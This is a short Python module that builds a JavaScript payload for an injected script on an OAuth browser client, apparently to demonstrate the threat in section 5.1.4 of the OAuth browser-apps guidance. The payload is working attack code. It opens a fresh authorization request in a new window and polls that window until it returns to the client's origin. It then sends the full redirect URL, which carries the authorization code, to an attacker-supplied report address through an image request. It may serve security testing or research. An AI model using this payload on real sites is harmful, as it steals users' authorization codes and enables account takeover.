"""A script that has got into a page of the client, and runs there as if it were the client's own.

OAuth 2.0 for Browser-Based Applications section 5.1.4. It needs nothing that the client keeps. It
has the server answer a request of its own, in another window, and reads in the address of that
window what has come to the client's origin. In a hidden frame it would find nobody signed in:
browsers keep a ``SameSite`` cookie from the frames of other sites.
"""

import json

_SCRIPT = """
document.body.innerHTML = "<button>Continue</button>";
document.querySelector("button").onclick = () => {
  const opened = window.open(REQUEST);
  const watch = setInterval(() => {
    let address = "";
    try { address = opened.location.href } catch { return }
    if (!address.startsWith(location.origin)) return;
    clearInterval(watch);
    new Image().src = REPORT + encodeURIComponent(address);
  }, 20);
};
"""


def script(request: str, report: str) -> str:
    """The script; where the request has ended it appends to ``report``."""
    return _SCRIPT.replace("REQUEST", json.dumps(request)).replace("REPORT", json.dumps(report))
